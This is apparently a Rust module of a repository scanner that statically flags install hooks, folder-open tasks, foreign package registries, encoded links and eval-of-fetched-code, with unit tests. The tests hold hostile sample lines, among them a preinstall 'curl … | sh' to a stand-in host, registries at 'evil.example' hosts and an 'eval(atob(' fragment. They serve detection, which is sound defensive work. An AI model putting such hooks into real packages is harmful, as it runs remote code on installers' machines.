//! What a file of a repository runs, or fetches, without being asked: when a folder is opened, when packages are
//! installed, when the program starts.
//!
//! A static reading of manifests, task files and settings; nothing is ever run. Which commands are honest hooks,
//! which hosts are registries and which fragments of code run what they fetched is said by tables and lists.

use super::encoded::{encoded_hosts, plain_hosts};
use super::jsonc::{Member, string_members};
use crate::content::{Content, List, Table};
use aho_corasick::AhoCorasick;
use std::borrow::Cow;
use std::net::IpAddr;
use std::ops::Range;

/// Bytes of a file that are read; what follows says nothing.
const READ: usize = 2 << 20;
/// Foreign hosts of one lock file that are named.
const FOREIGN: usize = 3;
/// Scripts that call scripts are followed this far, and so many commands are read of one file.
const DEPTH: u8 = 4;
const COMMANDS: usize = 512;
/// Members of one file in which a script is looked up.
const MEMBERS: usize = 1024;
/// Bytes before a link that can say what the link is for.
const NEAR: usize = 1024;

/// Scripts that the package manager npm runs by itself on installing.
const INSTALL_SCRIPTS: [&str; 7] =
    ["preinstall", "install", "postinstall", "preprepare", "prepare", "postprepare", "prepublish"];
/// Members of `package.json` that name pages for people, not things that run.
const PAGES: [&str; 5] = ["homepage", "url", "bugs", "repository", "funding"];

/// Lists and tables about repositories.
#[derive(Debug)]
pub(crate) struct CodeKnowledge<'c> {
    payload_hosts: Option<&'c List>,
    registries: Option<&'c List>,
    commands: Option<&'c Table>,
    remote_eval: Option<AhoCorasick>,
    /// Words in names of repositories that were passed off as tests.
    pub(crate) assessment_words: Option<&'c List>,
}

impl<'c> CodeKnowledge<'c> {
    pub(crate) fn new(content: &'c Content) -> Self {
        let fragments = content.table("remote-eval").map(|table| table.rows().iter().map(|row| row.cell(0)));
        Self {
            payload_hosts: content.list("payload-hosts"),
            registries: content.list("package-registries"),
            commands: content.table("install-commands"),
            remote_eval: fragments
                .and_then(|fragments| AhoCorasick::builder().ascii_case_insensitive(true).build(fragments).ok()),
            assessment_words: content.list("assessment-words"),
        }
    }
}

/// Something that runs unasked, or a host that is fetched from.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Sighting {
    pub(crate) what: What,
    /// Bytes of the file's text.
    pub(crate) span: Range<usize>,
}

/// What was seen.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) enum What {
    /// A value of `code.autorun`.
    Runs(&'static str),
    /// A host of the list of payload hosting, in lower case.
    PayloadHost(String),
}

/// What kind of file a path names.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum FileKind {
    Package,
    Lock,
    RegistrySettings,
    EditorTasks,
    Page,
    Other,
}

/// Everything that a file runs or fetches unasked, in no order.
pub(crate) fn sightings(path: &str, text: &str, knowledge: &CodeKnowledge<'_>, found: &mut Vec<Sighting>) {
    let text = clipped(text);
    match kind_of(path) {
        FileKind::Page => {}
        FileKind::Package => {
            install_scripts(text, knowledge, found);
            for member in string_members(text).filter(|member| !PAGES.contains(&member.key)) {
                payload_hosts(member.value, member.span.start, knowledge, found);
            }
        }
        FileKind::Lock | FileKind::RegistrySettings => foreign_registries(text, knowledge, found),
        FileKind::EditorTasks => {
            folder_open(text, found);
            settings_and_code(text, knowledge, found);
        }
        FileKind::Other => settings_and_code(text, knowledge, found),
    }
}

fn clipped(text: &str) -> &str {
    &text[..text.floor_char_boundary(READ)]
}

fn kind_of(path: &str) -> FileKind {
    let path = path.to_ascii_lowercase().replace('\\', "/");
    let name = path.rsplit('/').next().unwrap_or_default();
    match name {
        "package.json" => FileKind::Package,
        "package-lock.json" | "npm-shrinkwrap.json" | "yarn.lock" | "pnpm-lock.yaml" | "pipfile.lock" => FileKind::Lock,
        ".npmrc" | ".yarnrc" | ".yarnrc.yml" | "pip.conf" | "requirements.txt" => FileKind::RegistrySettings,
        "tasks.json" if path.ends_with(".vscode/tasks.json") => FileKind::EditorTasks,
        _ => match name.rsplit('.').next().unwrap_or_default() {
            "code-workspace" => FileKind::EditorTasks,
            "md" | "rst" | "txt" => FileKind::Page,
            _ => FileKind::Other,
        },
    }
}

/// Scripts that run on installing and start an interpreter or a download, honest hooks left out.
fn install_scripts(text: &str, knowledge: &CodeKnowledge<'_>, found: &mut Vec<Sighting>) {
    let Some(commands) = knowledge.commands else { return };
    let mut scripts: Option<Scripts<'_>> = None;
    for member in string_members(text).filter(|member| INSTALL_SCRIPTS.contains(&member.key)) {
        let scripts = scripts.get_or_insert_with(|| Scripts {
            members: string_members(text).take(MEMBERS).collect(),
            commands,
            budget: COMMANDS,
        });
        if scripts.start_a_program(&member.unescaped(), 0) {
            found.push(Sighting { what: What::Runs("install-script"), span: member.span });
        }
    }
}

/// The scripts of a file, while one of them is followed.
struct Scripts<'t> {
    members: Vec<Member<'t>>,
    commands: &'t Table,
    budget: usize,
}

impl Scripts<'_> {
    /// Whether a command of a script, or of a script that it calls, runs whatever it is told.
    fn start_a_program(&mut self, script: &str, depth: u8) -> bool {
        script.split(['&', '|', ';', '\n']).any(|command| {
            self.budget = self.budget.saturating_sub(1);
            self.budget > 0 && self.starts_a_program(command, depth)
        })
    }

    fn starts_a_program(&mut self, command: &str, depth: u8) -> bool {
        let mut words = command.split_whitespace().map(|word| word.trim_matches(['"', '\'', '(', ')']));
        while let Some(word) = words.next() {
            if word.is_empty() || word.starts_with('-') || (word.contains('=') && !word.contains('/')) {
                continue;
            }
            let name = word.rsplit(['/', '\\']).next().unwrap_or(word);
            let name = name.trim_end_matches(".exe").trim_end_matches(".cmd");
            return match self.commands.rows_of(name).first().map(|row| row.cell(1)) {
                Some("wrapper") => continue,
                Some("runner") => !words.any(|word| belongs_to_a_hook(word, self.commands)),
                None if depth < DEPTH => {
                    let called = self.members.iter().find(|script| script.key == word).map(Member::unescaped);
                    called.is_some_and(|called| self.start_a_program(&called, depth + 1))
                }
                Some(_) | None => false,
            };
        }
        false
    }
}

/// Whether an argument is a file of an installed honest hook: `node_modules/husky/…`.
fn belongs_to_a_hook(argument: &str, commands: &Table) -> bool {
    let Some((_, inside)) = argument.split_once("node_modules/") else { return false };
    let package = inside.trim_start_matches(".bin/").split('/').next().unwrap_or_default();
    commands.rows_of(package).first().is_some_and(|row| row.cell(1) == "hook")
}

/// Tasks that the editor starts when the folder is opened.
fn folder_open(text: &str, found: &mut Vec<Sighting>) {
    let task = |member: &Member<'_>| member.key == "runOn" && member.value == "folderOpen";
    if let Some(member) = string_members(text).find(task) {
        found.push(Sighting { what: What::Runs("folder-open-task"), span: member.span });
    }
}

/// Packages or registries at hosts that are no known registry; each host once.
fn foreign_registries(text: &str, knowledge: &CodeKnowledge<'_>, found: &mut Vec<Sighting>) {
    let Some(registries) = knowledge.registries else { return };
    let mut last = String::new();
    let mut named: Vec<String> = Vec::new();
    for link in plain_hosts(text) {
        // Thousands of lines name the same host.
        if link.host == last || in_comment(text, link.span.start) {
            continue;
        }
        if !registries.contains_domain(&link.host)
            && !is_local(&link.host)
            && !named.contains(&link.host)
            && is_package_line(text, link.span.start)
        {
            found.push(Sighting { what: What::Runs("foreign-registry"), span: link.span.clone() });
            payload_host(&link.host, link.span, knowledge, found);
            named.push(link.host.clone());
            if named.len() == FOREIGN {
                return;
            }
        }
        last = link.host;
    }
}

/// Whether what stands before a link says that packages come from there, and not who is to be thanked.
fn is_package_line(text: &str, at: usize) -> bool {
    const BESIDE: usize = 40;
    let line = line_before(text, at, BESIDE);
    ["resolved", "tarball", "registry", "index-url", "index_url", "find-links", "npmRegistryServer"]
        .iter()
        .any(|word| line.contains(word))
}

fn in_comment(text: &str, at: usize) -> bool {
    line_before(text, at, NEAR).trim_start().starts_with(['#', ';'])
}

/// The line before a position, at most so many bytes of it.
fn line_before(text: &str, at: usize, most: usize) -> &str {
    let start = text.ceil_char_boundary(at.saturating_sub(most));
    let near = text.get(start..at).unwrap_or_default();
    near.rsplit('\n').next().unwrap_or_default()
}

/// A host of one's own machine or network.
fn is_local(host: &str) -> bool {
    match host.parse::<IpAddr>() {
        Ok(IpAddr::V4(address)) => address.is_loopback() || address.is_private(),
        Ok(IpAddr::V6(address)) => address.is_loopback(),
        Err(_) => !host.contains('.'),
    }
}

/// Links in base64, code that runs what it fetched, and hosts of payloads.
fn settings_and_code(text: &str, knowledge: &CodeKnowledge<'_>, found: &mut Vec<Sighting>) {
    payload_hosts(text, 0, knowledge, found);
    for link in encoded_hosts(text).filter(|link| !is_local(&link.host)) {
        payload_host(&link.host, link.span.clone(), knowledge, found);
        found.push(Sighting { what: What::Runs("encoded-link"), span: link.span });
    }
    if let Some(span) = knowledge.remote_eval.as_ref().and_then(|fragments| remote_eval(text, fragments)) {
        found.push(Sighting { what: What::Runs("remote-eval"), span });
    }
}

fn payload_hosts(text: &str, offset: usize, knowledge: &CodeKnowledge<'_>, found: &mut Vec<Sighting>) {
    for link in plain_hosts(text) {
        payload_host(&link.host, link.span.start + offset..link.span.end + offset, knowledge, found);
    }
}

fn payload_host(host: &str, span: Range<usize>, knowledge: &CodeKnowledge<'_>, found: &mut Vec<Sighting>) {
    if knowledge.payload_hosts.is_some_and(|list| list.contains_domain(host)) {
        found.push(Sighting { what: What::PayloadHost(host.to_owned()), span });
    }
}

/// The first place where code runs what it decoded or fetched. White space does not matter.
fn remote_eval(text: &str, fragments: &AhoCorasick) -> Option<Range<usize>> {
    let dense: Cow<'_, str> = if text.bytes().any(|byte| byte.is_ascii_whitespace()) {
        text.chars().filter(|character| !character.is_ascii_whitespace()).collect::<String>().into()
    } else {
        text.into()
    };
    let hit = fragments.find(dense.as_ref())?;
    // Byte number n of the dense text is the n-th byte of the text that is no white space.
    let mut solid = text.bytes().enumerate().filter(|(_, byte)| !byte.is_ascii_whitespace()).map(|(at, _)| at);
    let start = solid.nth(hit.start())?;
    let end = if hit.len() > 1 { solid.nth(hit.len() - 2)? } else { start };
    Some(start..end + 1)
}

#[cfg(test)]
mod tests {
    use super::{CodeKnowledge, What, sightings};
    use crate::content::{Content, embedded};
    use proptest::prelude::*;
    use std::sync::OnceLock;

    fn content() -> &'static Content {
        static CONTENT: OnceLock<Content> = OnceLock::new();
        CONTENT.get_or_init(load)
    }

    fn load() -> Content {
        let named = ["package-registries.txt", "payload-hosts.txt", "install-commands.tsv", "remote-eval.tsv"];
        let mut files = embedded();
        files.retain(|file| named.iter().any(|name| file.path.ends_with(name)));
        Content::load(&files).expect("the content loads")
    }

    fn seen(path: &str, text: &str) -> Vec<(String, String)> {
        let knowledge = CodeKnowledge::new(content());
        let mut found = Vec::new();
        sightings(path, text, &knowledge, &mut found);
        let words = |what| match what {
            What::Runs(what) => what.to_owned(),
            What::PayloadHost(host) => host,
        };
        found.into_iter().map(|sighting| (words(sighting.what), text[sighting.span].to_owned())).collect()
    }

    fn one(what: &str, quote: &str) -> Vec<(String, String)> {
        vec![(what.to_owned(), quote.to_owned())]
    }

    #[test]
    fn a_task_on_folder_open_is_seen_through_comments() {
        let task = "{ // tasks\n \"runOptions\": { \"runOn\": \"folderOpen\" }, }";
        assert_eq!(seen(".vscode/tasks.json", task), one("folder-open-task", "folderOpen"));
        assert_eq!(seen("a\\.vscode\\tasks.json", task), one("folder-open-task", "folderOpen"));
        assert!(seen(".vscode/tasks.json", "{ // \"runOn\": \"folderOpen\"\n \"runOn\": \"default\" }").is_empty());
        assert!(seen("docs/tasks.json", task).is_empty());
    }

    #[test]
    fn install_scripts_that_start_programs_are_seen_and_honest_hooks_are_not() {
        let package = |script: &str| format!("{{\"scripts\":{{{script}}}}}");
        for (script, quote) in [
            ("\"postinstall\":\"node setup/loader.js\"", "node setup/loader.js"),
            ("\"prepare\":\"husky && node a.js\"", "husky && node a.js"),
            ("\"preinstall\":\"curl -s https://x.example/i | sh\"", "curl -s https://x.example/i | sh"),
            ("\"prepare\":\"npm run go\",\"go\":\"FOO=1 /usr/bin/python3 x.py\"", "npm run go"),
        ] {
            assert_eq!(seen("package.json", &package(script)), one("install-script", quote), "{script}");
        }
        for script in [
            "\"prepare\":\"husky install\"",
            "\"postinstall\":\"patch-package\"",
            "\"prepare\":\"npm run build\",\"build\":\"tsc -p .\"",
            "\"postinstall\":\"node node_modules/husky/lib/bin.js\"",
            "\"prepare\":\"npm run prepare\"",
            "\"start\":\"node index.js\"",
        ] {
            assert_eq!(seen("package.json", &package(script)), [], "{script}");
        }
    }

    #[test]
    fn packages_from_elsewhere_are_seen() {
        let lock = "{\"a\":{\"resolved\":\"https://registry.npmjs.org/a/-/a-1.tgz\"},\
                     \"b\":{\"resolved\":\"https://pkg.evil.example/b.tgz\",\"funding\":{\"url\":\"https://thanks.example\"}}}";
        assert_eq!(seen("app/package-lock.json", lock).len(), 1);
        let lock = lock.replace(",\"", "\n,\"");
        assert_eq!(seen("package-lock.json", &lock), one("foreign-registry", "pkg.evil.example"));
        assert_eq!(seen(".npmrc", "registry=https://npm.evil.example/\n"), one("foreign-registry", "npm.evil.example"));
        assert!(seen("yarn.lock", "# https://evil.example\n resolved \"http://localhost:4873/a.tgz\"").is_empty());
    }

    #[test]
    fn a_key_that_is_a_link_and_its_payload_host_are_seen() {
        // https://www.jsonkeeper.com/b/AB12
        let key = "aHR0cHM6Ly93d3cuanNvbmtlZXBlci5jb20vYi9BQjEy";
        let found = seen("server/config/.config.env", &format!("API_KEY={key}\n"));
        assert_eq!(
            found,
            [("www.jsonkeeper.com".to_owned(), key.to_owned()), ("encoded-link".to_owned(), key.to_owned())]
        );
        let plain = seen("config.js", "fetch('https://www.jsonkeeper.com/b/AB12')");
        assert_eq!(plain, one("www.jsonkeeper.com", "www.jsonkeeper.com"));
        assert!(seen("package.json", "{\"homepage\":\"https://demo.vercel.app\"}").is_empty());
        assert!(seen("README.md", "https://demo.vercel.app").is_empty());
    }

    #[test]
    fn scripts_that_call_each_other_end() {
        let many = "npm run a & ".repeat(2000);
        let package = format!("{{\"prepare\":\"{many}\",\"a\":\"{many}\"}}");
        assert_eq!(seen("package.json", &package), []);
    }

    #[test]
    fn code_that_runs_what_it_fetched_is_seen_whatever_the_spacing() {
        let found = seen("a.js", "const x = 1;\neval ( atob(\n 'Zm9v') );");
        assert_eq!(found, one("remote-eval", "eval ( atob("));
        assert!(seen("a.js", "evaluate(atobject)").is_empty());
    }

    proptest! {
        #[test]
        fn whatever_a_file_says_its_quotes_stand_in_it(
            path in "(package.json|yarn.lock|.npmrc|.vscode/tasks.json|a.js)",
            parts in prop::collection::vec(
                prop_oneof![
                    Just("\"postinstall\": \"node x\"".to_owned()),
                    Just("resolved \"https://x.example/é".to_owned()),
                    Just("aHR0cHM6Ly9hLmV4YW1wbGUv".to_owned()),
                    Just("eval ( atob (".to_owned()),
                    ".{0,12}",
                ],
                0..8,
            ),
        ) {
            let text = parts.concat();
            // Slicing panics where a span is no part of the text.
            seen(&path, &text);
        }
    }
}
